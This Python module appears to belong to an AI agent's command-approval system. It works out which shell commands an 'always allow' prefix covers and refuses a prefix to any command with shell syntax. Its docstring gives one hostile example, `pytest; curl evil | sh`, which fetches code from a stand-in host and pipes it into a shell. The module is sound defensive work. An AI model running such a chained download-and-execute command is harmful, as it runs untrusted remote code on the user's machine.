""" "Always allow this command prefix": which shell commands an approved prefix covers.

A prefix is the command's first word, or its first two for tools whose second word picks the
action (`git status`, `npm test`, `python -m pytest`); a wrapper's names what it runs
(`timeout 60 pytest`), and programs or options that run other programs get none
(agent/command_rules.py). A command with shell syntax (`;`, `&&`,
pipes, redirections, `$(...)`, backquotes, globs of commands) never gets a prefix and never
matches one: `pytest; curl evil | sh` must be asked about, whatever was allowed before.
"""

from __future__ import annotations

import shlex

from .command_rules import prefix_of

_SHELL_SYNTAX = frozenset(";&|`$<>(){}\n\r\\*?[]!#~")


def _words(command: str) -> list[str] | None:
    if not command.strip() or any(c in _SHELL_SYNTAX for c in command):
        return None
    try:
        words = shlex.split(command)
    except ValueError:
        return None
    if not words or "=" in words[0]:  # FOO=1 cmd: an environment change, ask each time
        return None
    return words


def command_prefix(command: str) -> tuple[str, ...] | None:
    """The prefix the user may allow for this command, or None (then only "once"); the
    per-program rules (wrappers, options that run programs) are agent/command_rules.py's."""
    words = _words(command)
    return None if words is None else prefix_of(words)


def matches(command: str, prefix: tuple[str, ...]) -> bool:
    """An allowed prefix covers a command whose own prefix is the same: a wrapper's prefix
    names what it runs, and a command with a dangerous option has no prefix at all."""
    got = command_prefix(command)
    return got is not None and got == tuple(prefix)


def shown(prefix: tuple[str, ...]) -> str:
    return shlex.join(prefix)
